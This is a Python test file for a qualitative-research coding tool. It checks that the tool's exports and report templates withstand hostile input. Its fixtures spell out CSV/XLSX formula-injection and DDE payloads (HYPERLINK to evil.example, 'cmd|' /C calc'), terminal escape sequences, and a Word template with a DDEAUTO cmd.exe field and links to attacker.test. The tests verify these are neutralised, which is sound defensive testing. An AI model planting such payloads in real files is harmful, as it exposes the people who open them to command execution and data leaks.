"""Outputs and exports against hostile input: no output replaces the store, however linked;
formula-leading transcript text stays text in .xlsx and .csv; a formula in a coding sheet is an
error naming its cell; control characters from a transcript break no export; a template's fields
and external links are taken out."""

from __future__ import annotations

import csv
import hashlib
import zipfile

import pytest

from casecode.errors import CasecodeError
from casecode.outputs import cell, check_out, uncell, write_atomic
from conftest import build_once, copy_of, stored_codings, write
from samples import ANALYSIS_CODEBOOK

HOSTILE = (
    "访谈者：您好。\n"
    '村民：=HYPERLINK("http://evil.example/"&A1,"点这里")\n'
    "村民：+1+cmd|' /C calc'!A0\n"
    "村民：\x1b]52;c;ZXZpbA==\x07村委会说不清楚\x1b[2J。\n"
    "村民：@SUM(1+1)*cmd|' /C calc'!A0\n"
    "访谈者：" + "村里的老年协会每月公开账目，大家都很满意。" * 20 + "\n"
)


def _build(cli, project, folder):
    write(folder / "t" / "h.txt", HOSTILE)
    cli("import", folder / "t", "-p", project)
    cli("codebook", "use", write(folder / "cb.yaml", ANALYSIS_CODEBOOK), "-p", project)
    cli("code", "-p", project)
    cli("tag", "h.txt", "2", "actors.village", "-p", project)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    return build_once(tmp_path_factory, _build)


@pytest.fixture
def hostile(built, tmp_path):
    return copy_of(built, tmp_path)


def _digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "args",
    [
        ["matrix", "--out", "{out}"],
        ["cooccur", "--out", "{out}"],
        ["query", "actors", "--out", "{out}"],
        ["kwic", "村委会", "--out", "{out}"],
        ["export", "codings", "--out", "{out}"],
        ["sheet", "export", "{out}"],
    ],
)
def test_an_out_that_links_to_the_store_is_refused_even_with_force(hostile, cli, tmp_path, args):
    store = hostile / "casecode.db"
    before = _digest(store)
    link = tmp_path / "innocent.csv"
    link.symlink_to(store)
    result = cli(*[a.replace("{out}", str(link)) for a in args], "--force", "-p", hostile, ok=False)
    assert result.exit_code == 1
    assert "store or settings" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert _digest(store) == before and link.is_symlink()
    assert len(stored_codings(hostile)) > 0


def test_a_link_through_a_folder_to_the_settings_is_refused(hostile, tmp_path):
    (tmp_path / "via").symlink_to(hostile)
    with pytest.raises(CasecodeError, match="store or settings"):
        check_out(tmp_path / "via" / "casecode.toml", force=True)
    with pytest.raises(CasecodeError, match="store or settings"):
        check_out(tmp_path / "via" / "casecode.db-wal", force=True)


def test_any_sqlite_database_is_refused_and_a_plain_link_is_replaced_not_written_through(
    tmp_path,
):
    import sqlite3

    sqlite3.connect(tmp_path / "other.sqlite").execute("CREATE TABLE t (x)").connection.commit()
    with pytest.raises(CasecodeError, match="store or settings"):
        check_out(tmp_path / "other.sqlite", force=True)
    target = tmp_path / "target.txt"
    target.write_text("keep me")
    (tmp_path / "out.csv").symlink_to(target)
    write_atomic(tmp_path / "out.csv", b"new")
    assert target.read_text() == "keep me"
    assert not (tmp_path / "out.csv").is_symlink()


def test_cells_follow_the_owasp_rules():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1"):
        assert cell(text) == "'" + text and uncell(cell(text)) == text
    assert cell("村委会") == "村委会" and cell(-1) == -1 and cell(None) is None
    assert cell("a\x1bb\x07", xlsx=True) == "a\ufffdb\ufffd"


def test_csv_and_xlsx_exports_hold_no_live_formula_and_survive_control_characters(
    hostile, cli, tmp_path
):
    import openpyxl

    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"codings{suffix}"
        cli("export", "codings", "--out", out, "-p", hostile)
        if suffix == ".csv":
            with open(out, encoding="utf-8-sig") as f:
                cells = [c for row in csv.reader(f) for c in row]
        else:
            wb = openpyxl.load_workbook(out)
            assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
            cells = [str(c.value) for row in wb.active.iter_rows() for c in row if c.value]
        assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
        assert any(c.startswith("'=HYPERLINK") for c in cells) or suffix == ".csv"
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"sheet{suffix}"
        cli("sheet", "export", out, "-p", hostile)
    wb = openpyxl.load_workbook(tmp_path / "sheet.xlsx")
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    cli("report", "--out", tmp_path / "r.docx", "-p", hostile)


def test_an_exported_sheet_with_neutralised_text_imports_back(hostile, cli, tmp_path):
    out = tmp_path / "sheet.csv"
    cli("sheet", "export", out, "--coder", "auto", "-p", hostile)
    with open(out, encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert rows[2][3].startswith("'=HYPERLINK")
    rows[2][4] = "actors.village"
    with open(out, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    report = cli.json("sheet", "import", out, "--coder", "ann", "-p", hostile)
    assert report["errors"] == [] and report["added"] >= 1


def test_a_formula_cell_in_a_sheet_is_an_error_naming_it_and_nothing_changes(
    hostile, cli, tmp_path
):
    import openpyxl

    out = tmp_path / "sheet.xlsx"
    cli("sheet", "export", out, "-p", hostile)
    cli("tag", "h.txt", "4", "actors.village", "--coder", "ann", "-p", hostile)
    before = [dict(r) for r in stored_codings(hostile)]
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    ws["E2"] = "actors.village"
    ws["E5"] = '=IF(TRUE,"actors.village","")'  # no cached value: would read as blank
    wb.save(out)
    result = cli("sheet", "import", out, "--coder", "ann", "-p", hostile, ok=False)
    assert result.exit_code == 1
    assert "cell E5 holds a formula" in result.stderr
    assert [dict(r) for r in stored_codings(hostile)] == before


def _template(path, *, body_fields: bool = True):
    import docx

    d = docx.Document()
    d.add_paragraph("x")
    d.save(path)
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    footer = (
        f'<w:ftr xmlns:w="{w}"><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.test/x.png&quot; \\d ">'
        "<w:r><w:t>pic</w:t></w:r></w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText> PAGE </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:ftr>"
    )
    parts["word/footer1.xml"] = footer.encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdF1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/footer" Target="footer1.xml"/></Relationships>',
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.footer+xml"/></Types>',
        )
    )
    parts["[Content_Types].xml"] = types.encode()
    doc = parts["word/document.xml"].decode()
    doc = doc.replace(
        "<w:sectPr>",
        '<w:sectPr><w:footerReference w:type="default" r:id="rIdF1"/>'
        if "<w:sectPr>" in doc
        else "<w:sectPr ",
        1,
    )
    if 'r:id="rIdF1"' not in doc:
        doc = doc.replace("<w:pgSz", '<w:footerReference w:type="default" r:id="rIdF1"/><w:pgSz', 1)
    parts["word/document.xml"] = doc.encode()
    settings = parts["word/settings.xml"].decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.test/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def test_a_template_loses_its_fields_and_external_links_but_keeps_page_numbers(
    hostile, cli, tmp_path
):
    template = _template(tmp_path / "t.docx")
    with zipfile.ZipFile(template) as z:
        raw = b"".join(z.read(n) for n in z.namelist())
    assert b"DDEAUTO" in raw and b"INCLUDEPICTURE" in raw and b"attacker.test/t.dotm" in raw
    out = tmp_path / "r.docx"
    cli("report", "--out", out, "--template", template, "-p", hostile)
    with zipfile.ZipFile(out) as z:
        raw = b"".join(z.read(n) for n in z.namelist())
    assert b"DDEAUTO" not in raw and b"INCLUDEPICTURE" not in raw
    assert b"attacker.test" not in raw and b'TargetMode="External"' not in raw
    assert b"attachedTemplate" not in raw
    assert b" PAGE " in raw and b"shown" in raw
